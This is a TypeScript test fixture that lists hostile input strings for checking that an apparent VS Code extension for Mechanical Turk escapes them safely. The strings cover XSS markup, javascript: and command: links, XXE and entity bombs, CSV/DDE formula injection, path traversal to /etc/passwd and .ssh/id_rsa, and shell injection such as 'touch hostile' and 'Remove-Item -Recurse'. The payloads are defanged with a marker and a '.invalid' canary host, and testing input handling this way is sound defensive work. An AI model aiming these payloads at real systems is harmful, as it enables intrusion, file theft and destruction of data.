/**
 * What nobody should send and somebody will: texts that want to run, to load, to forge or to break. Written for these tests; any
 * text may stand in any field. What runs leaves {@link marker} behind, what loads asks {@link canary}, and neither may happen.
 */

/** Set on the global object by whatever text gets to run. */
export const marker = '__hostileTextRan';
/** A host that texts want asked. `.invalid` is never resolved, so nothing leaves the machine even where a defence fails. */
export const canary = 'canary.invalid';

const run = `globalThis.${marker}=1`;
const load = `https://${canary}`;

type Kind =
  | 'script'
  | 'markup'
  | 'address'
  | 'markdown'
  | 'style'
  | 'template'
  | 'length'
  | 'control'
  | 'direction'
  | 'unicode'
  | 'xml'
  | 'formula'
  | 'path'
  | 'shell'
  | 'blank';

export interface Hostile {
  readonly kind: Kind;
  /** Unique, and fit for a test's title. */
  readonly name: string;
  readonly text: string;
}

const backslash = String.fromCharCode(92);
/** Lone surrogates can't stand in a source file. */
const highSurrogate = String.fromCharCode(0xd83d);
const lowSurrogate = String.fromCharCode(0xde00);
const unicode = (...codes: number[]) => String.fromCodePoint(...codes);

const texts: Readonly<Record<Kind, Readonly<Record<string, string>>>> = {
  script: {
    element: `<script>${run}</script>`,
    remote: `<script src="${load}/a.js"></script>`,
    module: `<script type="module">import("${load}/m.js")</script>`,
    split: `<scr<script>ipt>${run}</scr</script>ipt>`,
    upper: `<SCRIPT/x>${run}</SCRIPT\t>`,
    closing: `--></textarea></title></noscript><script>${run}</script>`,
    comment: `<!--><script>${run}</script>-->`,
    inString: `";${run};//`,
    inTemplate: `\`;${run};\``,
    lineSeparator: `'${unicode(0x2028)}${run}//`,
  },
  markup: {
    image: `<img src=x onerror="${run}">`,
    imageLoad: `<img src="${load}/pixel.gif" width=1 height=1>`,
    quoted: `"><img src=x onerror=${run}>`,
    singleQuoted: `' autofocus onfocus='${run}' x='`,
    svg: `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
    svgUse: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"/></svg>`,
    mathml: `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
    iframe: `<iframe srcdoc="<script>parent.${marker}=1</script>" src="${load}/frame"></iframe>`,
    object: `<object data="${load}/o"></object><embed src="${load}/e">`,
    form: `<form action="${load}/f"><input name=x autofocus onfocus="${run}"><button>Sign in again</button></form>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${load}/refresh">`,
    base: `<base href="${load}/"><link rel=stylesheet href="${load}/c.css"><link rel=prefetch href="${load}/p">`,
    details: `<details open ontoggle="${run}"><summary>more</summary></details>`,
    video: `<video autoplay poster="${load}/v.png"><source onerror="${run}"></video>`,
    custom: `<vscode-button onclick="${run}" style="position:fixed;inset:0">Approve</vscode-button>`,
    escaped: `&lt;img src=x onerror=&quot;${run}&quot;&gt;`,
    numbered: `&#60;script&#62;${run}&#60;/script&#62;`,
    closeAll: `</td></tr></table></article></main></body></html><h1>Everything is paid</h1>`,
    clobber: `<img name=body><a id=acquireVsCodeApi><form name=document></form>`,
  },
  address: {
    javascript: `javascript:${run}`,
    javascriptTabs: `java\tscri\npt:${run}//`,
    javascriptEntity: `&#106;avascript:${run}`,
    data: `data:text/html,<script>${run}</script>`,
    vbscript: `vbscript:msgbox(1)`,
    command: `command:workbench.action.closeWindow`,
    commandArguments: `command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22touch%20hostile%5Cu000d%22%7D`,
    vscode: `vscode://mturk-workbench.mturk-workbench/approve?all`,
    file: 'file:///etc/passwd',
    plain: `${load}/plain`,
    user: `https://requester.mturk.com@${canary}/`,
    protocolRelative: `//${canary}/relative`,
    share: `${backslash.repeat(2)}${canary}${backslash}share${backslash}a.png`,
    mail: `mailto:a@${canary}?subject=x`,
  },
  markdown: {
    link: `[Approve all](${load}/link)`,
    commandLink: `[Try again](command:workbench.action.closeWindow)`,
    commandTitle: `[Try again](command:workbench.action.closeWindow "harmless")`,
    fileLink: `[the log](file:///etc/passwd)`,
    image: `![paid](${load}/image.png)`,
    reference: `[x]: ${load}/reference\n[x]`,
    auto: `<${load}/auto> www.${canary} a@${canary}`,
    icon: '$(trash) $(loading~spin) $(warning) Deleted',
    escapedIcon: `${backslash}$(trash) ${backslash}${backslash}$(trash)`,
    heading: `# Paid\n\n---\n| a | b |\n|---|---|\n| 1 | 2 |`,
    code: '```js\nalert(1)\n``` `a` ~~b~~ **c** _d_',
    html: `<a href="command:workbench.action.closeWindow">x</a><span style="color:red;">y</span>`,
    breaks: `a  \nb${backslash}\n- [ ] c\n1. d\n> e`,
    escapes: `${backslash}[x${backslash}](command:workbench.action.closeWindow)`,
    linkBroken: `[Try\nagain](command:workbench.action.closeWindow)`,
    linkNested: `[[a](${load}/n)](command:workbench.action.closeWindow)`,
  },
  style: {
    closing: `</style><style>*{display:none!important}</style>`,
    inline: `<div style="position:fixed;inset:0;background:url(${load}/bg)">x</div>`,
    import: `<style>@import url(${load}/i.css);</style>`,
    expression: `x:expression(${run})`,
    url: `;background:url("${load}/u.png");`,
    font: `@font-face{font-family:x;src:url(${load}/f.woff)}`,
    class: `codicon codicon-trash foreign" hidden class="x`,
  },
  template: {
    dollar: `\${${run}}`,
    mustache: `{{constructor.constructor("${run}")()}}`,
    angular: `{{$on.constructor('${run}')()}}`,
    jinja: `{% for x in ().__class__.__mro__ %}{{x}}{% endfor %}`,
    erb: `<%= ${run} %>`,
    proto: '__proto__',
    constructorWord: 'constructor',
    prototypeWord: 'prototype',
    hasOwn: 'hasOwnProperty',
    toStringWord: 'toString',
    valueOf: 'valueOf',
    thenWord: 'then',
    protoJson: `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}`,
    replacement: "$& $1 $` $' $$ $<name>",
    format: '%s %d %c %o %n {0} {1}',
    number: '1e999',
    date: '0000-00-00T99:99:99Z',
  },
  length: {
    word: 'W'.repeat(60_000),
    lines: 'line\n'.repeat(12_000),
    spaces: `a${' '.repeat(60_000)}b`,
    brackets: '['.repeat(30_000) + ']'.repeat(30_000),
    parentheses: `${'('.repeat(20_000)}1${')'.repeat(20_000)}`,
    nots: 'not '.repeat(15_000),
    braces: `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`,
    elements: '<a>'.repeat(9_000) + '</a>'.repeat(9_000),
    wide: unicode(0xfdfd).repeat(400),
    id: `3${'ABCDEFGHIJKLMNOPQRSTUVWXYZ012345678'.repeat(40)}`,
    stars: '*a '.repeat(12_000),
    backtrack: `${'a'.repeat(30_000)}!`,
  },
  control: {
    nul: `before\0after`,
    all: `${String.fromCharCode(...Array.from({ length: 32 }, (_, code) => code))}\x7f\x80\x9f`,
    ansi: `\x1b[31mred\x1b[2J\x1b[1;1H\x1b]0;title\x07\x1b]8;;${load}/osc\x07link\x1b]8;;\x07`,
    backspace: 'reject\b\b\b\b\b\bapprove',
    carriage: 'Rejected\rApproved',
    lines: 'title\nApproved 40 assignments (PRODUCTION).\r\n\nsecond',
    tabs: '\t\tindented\t\t',
    separators: `a${unicode(0x2028)}b${unicode(0x2029)}c${unicode(0x85)}d\v\fe`,
    logLine: `x\n2026-01-01 00:00:00.000 [info] local SendBonus 12 ms ok [r-1]`,
  },
  direction: {
    override: `A${unicode(0x202e)}gnp.exe${unicode(0x202c)}B`,
    overrideOpen: `open${unicode(0x202e)}never closed`,
    isolates: `${unicode(0x2066)}a${unicode(0x2067)}b${unicode(0x2068)}c`,
    embeddings: `${unicode(0x202a)}a${unicode(0x202b)}b${unicode(0x202d)}c`.repeat(30),
    marks: `1${unicode(0x200f)}2${unicode(0x200e)}3${unicode(0x61c)}4`,
    arabic: 'مرحبا 123 (abc) שלום 456',
    source: `/*${unicode(0x202e)} } ${unicode(0x2066)}if (admin)${unicode(0x2069)} ${unicode(0x2066)} begin */`,
  },
  unicode: {
    zeroWidth: `A${unicode(0x200b)}2${unicode(0x200c)}Y${unicode(0x200d)}U${unicode(0x2060)}C${unicode(0xfeff)}J`,
    homoglyph: `А2ΥUСЈ28ХАNFОХ`,
    fullWidth: '＜script＞ ＝1＋1 ＠a',
    zalgo: [...'approved']
      .map(letter => letter + unicode(0x300, 0x301, 0x488, 0x489, 0x334, 0x35c).repeat(12))
      .join(''),
    highSurrogate: `a${highSurrogate}b`,
    lowSurrogate: `a${lowSurrogate}b`,
    swapped: lowSurrogate + highSurrogate,
    emoji: `${unicode(0x1f469, 0x200d, 0x1f52c)}${unicode(0x1f3f3, 0xfe0f, 0x200d, 0x1f308)}${unicode(0x1f1e9, 0x1f1ea)}${unicode(0x1f44d, 0x1f3fd)}`,
    emojiChain: unicode(0x1f468, 0x200d).repeat(500) + unicode(0x1f468),
    tags: `flag${unicode(0x1f3f4, 0xe0067, 0xe0062, 0xe0065, 0xe006e, 0xe0067, 0xe007f)}${unicode(0xe0041, 0xe0042)}`,
    variation: `x${unicode(0xfe0f).repeat(200)}`,
    nonCharacters: `a${unicode(0xfffe)}b${unicode(0xffff)}c${unicode(0x1ffff)}`,
    privateUse: unicode(0xeab8, 0xea81, 0xf0000, 0x10fffd),
    replacement: 'caf\uFFFD \u00C3\u00A9 \u00E2\u20AC\u2122',
    hangulFiller: unicode(0x3164, 0x115f, 0x1160, 0xffa0),
    invisibleMath: `a${unicode(0x2061, 0x2062, 0x2063, 0x2064)}b`,
    cases: 'İıſßΣςǅK',
  },
  xml: {
    entityBomb: `<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><b>&c;</b>`,
    external: `<!DOCTYPE x [<!ENTITY e SYSTEM "${load}/entity">]><x>&e;</x>`,
    externalFile: `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
    parameter: `<!DOCTYPE x [<!ENTITY % p SYSTEM "${load}/dtd"> %p;]><x/>`,
    cdata: `]]><script>${run}</script><![CDATA[`,
    closing: '</FreeText></Answer></QuestionFormAnswers>',
    unclosed: '<QuestionFormAnswers><Answer>',
    instruction: `<?xml-stylesheet href="${load}/x.xsl" type="text/xsl"?><x/>`,
    entity: '&nosuch; &#0; &#xD800; &#x110000; &amp',
    namespaceTrick: '<a:b xmlns:a="x" xmlns:__proto__="y" __proto__:c="d"/>',
  },
  formula: {
    command: `=cmd|' /C calc'!A0`,
    link: `=HYPERLINK("${load}/sheet?"&A1,"Click")`,
    web: `=WEBSERVICE("${load}/ws")`,
    import: `=IMPORTXML("${load}/x","//a")`,
    plus: '+1+cmd|calc!A0',
    minus: '-2+3+cmd|calc!A0',
    at: '@SUM(1+1)*cmd|calc!A0',
    tab: '\t=1+1',
    carriage: '\r=1+1',
    newline: '\n=1+1',
    space: ' =1+1',
    quote: '"=1+1',
    semicolon: 'a;=1+1',
    comma: 'a,=1+1',
    innerTab: 'a\t=1+1',
    innerLine: 'a\n=1+1\n+2',
    quotedSemicolon: 'a";"=1+1',
    fullWidth: '＝1+1',
    noBreak: `${unicode(0xa0)}=1+1`,
    byteOrder: `${unicode(0xfeff)}=1+1`,
    zeroWidth: `${unicode(0x200b)}=1+1`,
    separator: 'sep=;',
    dde: 'DDE("cmd";"/C calc";"x")',
    percent: '%0A-3+3+cmd|calc!D2',
    apostrophe: `'=1+1`,
  },
  path: {
    up: '../../../../etc/passwd',
    upWindows: `..${backslash}..${backslash}windows${backslash}win.ini`,
    encoded: '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    absolute: '/etc/passwd',
    drive: `C:${backslash}x.csv:stream`,
    device: 'CON',
    hidden: '.ssh/id_rsa',
    rowKey: 'x/assignment/y/more',
    slashes: '//authority//path',
    query: 'a?b=c#d%zz',
    percent: '%',
    dots: '.',
    dotDot: '..',
    slash: '/',
  },
  shell: {
    substitution: '$(touch hostile)`touch hostile`',
    chain: `x'; touch hostile #`,
    double: `x"; touch hostile; echo "`,
    power: `'; Remove-Item -Recurse . #`,
    option: '--endpoint-url=https://canary.invalid',
    python: `"""); import os; os.system("touch hostile")#`,
    newline: `x\ntouch hostile\n`,
    percentR: `", quit(), "`,
  },
  blank: {
    spaces: '   ',
    zeroWidth: unicode(0x200b, 0x200c, 0x2060),
    lines: '\n\n',
    directions: unicode(0x202e, 0x2066),
    braille: unicode(0x2800),
  },
};

/** All of them, kind by kind. */
export const hostileTexts: readonly Hostile[] = (Object.keys(texts) as Kind[]).flatMap(kind =>
  Object.entries(texts[kind]).map(([name, text]) => ({ kind, name: `${kind} ${name}`, text })),
);

export function textsOfKind(kind: Kind): readonly Hostile[] {
  return hostileTexts.filter(each => each.kind === kind);
}
